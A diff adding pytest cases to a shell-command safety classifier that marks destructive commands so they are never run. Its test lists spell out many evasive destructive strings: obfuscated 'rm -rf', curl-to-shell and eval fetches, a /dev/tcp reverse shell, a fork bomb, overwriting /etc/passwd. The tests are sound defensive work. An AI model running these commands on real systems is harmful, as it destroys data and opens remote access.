@@ -53,6 +53,32 @@ class TestJoining:
         assert first.setup == ()
         assert second.setup == ("cd app", "export X=1")
 
+    @pytest.mark.parametrize("command", ["./gradlew test", "./run.sh", "cdk synth", "setsid true"])
+    def test_what_only_begins_like_a_change_of_the_shell_is_a_check(self, command: str) -> None:
+        """`.` and `cd` are words of their own."""
+        assert [check.command for check in checks(command)] == [command]
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            "cd x; rm -rf src",
+            "export A=$(git push --force)",
+            "unset X; sudo reboot",
+            ". ./deploy.sh",
+        ],
+    )
+    def test_what_is_not_to_be_run_is_no_set_up_either(self, command: str) -> None:
+        """Whatever it changes in the shell on the way."""
+        first, second = checks(f"{command}\npytest tests")
+        assert first.kind is CheckKind.DESTRUCTIVE
+        assert second.setup == ()
+
+    def test_a_command_that_does_and_leaves_something_is_both(self) -> None:
+        """A check, and set-up for those after it."""
+        first, second = checks("T=$(mktemp -d); mkdir $T/a\nls $T/a")
+        assert first.command == "T=$(mktemp -d); mkdir $T/a"
+        assert second.setup == (first.command,)
+
 
 class TestKinds:
     """Doubt goes to the safer side."""
@@ -78,11 +104,74 @@ class TestKinds:
             "find . -name x -delete",
             "pkill -f uvicorn",
             "aws s3 rm s3://bucket --recursive",
+            "\\rm -rf src",
+            "'rm' -rf src",
+            "r\\m -rf src",
+            "rm${IFS}-rf${IFS}src",
+            "{rm,-rf,src}",
+            "${X:-rm} -rf src",
+            "env -u X rm -rf src",
+            "timeout -k 5 10 rm -rf src",
+            "exec -a x rm -rf src",
+            "! rm -rf src",
+            "echo `rm -rf src`",
+            "case x in x) rm -rf src;; esac",
+            "bash -c 'rm -rf src'",
+            "bash <<< 'rm -rf src'",
+            "bash <<E\nrm -rf src\nE",
+            "cat <<E | sh\nrm -rf src\nE",
+            "trap 'rm -rf src' EXIT",
+            "alias ls='rm -rf'; ls src",
+            "echo cm0= | base64 -d | sh",
+            "curl -s localhost/i | python3 -",
+            "source <(curl -s localhost/x)",
+            'eval "$(curl -s localhost/x)"',
+            "python3 -c \"import shutil; shutil.rmtree('src')\"",
+            "node -e \"require('fs').rmSync('src')\"",
+            "python3 - <<E\nimport os; os.remove('x')\nE",
+            "psql <<E\nDROP TABLE users;\nE",
+            "psql -c 'UPDATE users SET admin=true'",
+            "git -C . clean -fdx",
+            "git -C 'my dir' reset --hard",
+            'git "push"',
+            "git -c alias.x='!rm -rf src' x",
+            "git branch --delete --force main",
+            "grep x <<<DATA\nrm -rf src\nDATA",
+            "echo '<<A'\nrm -rf src\nA",
+            "true # <<X\nrm -rf src\nX",
+            "ls | xargs -r -n 1 rm",
+            "find . -execdir rm {} +",
+            "redis-cli flushdb",
+            "./gradlew publish",
+            "make test deploy",
+            "./scripts/deploy.sh prod",
+            "cat x > /etc/passwd",
+            "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
+            ":(){ :|:& };:",
+            "npx semantic-release",
+            "rsync -a --delete empty/ src/",
         ],
     )
     def test_I52_what_destroys_is_never_run(self, command: str) -> None:
         """Whatever else it is."""
         assert CheckKind.DESTRUCTIVE in kinds_of(command)
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            'grep -rn "rm -rf" scripts/',
+            "grep -q 'eval \"$(tool init)\"' README.md",
+            "echo 'never git push here'",
+            "ls backups/*/rollback.sh",
+            "mvn clean verify",
+            "mount | grep data",
+            "pytest tests/test_deploy.py",
+            "cat report.txt | python3 -m json.tool",
+        ],
+    )
+    def test_what_only_speaks_of_destroying_is_run(self, command: str) -> None:
+        """A pattern, a message, a name."""
+        assert kinds_of(command) == (CheckKind.RUN,)
 
     @pytest.mark.parametrize(
         ("command", "kind"),
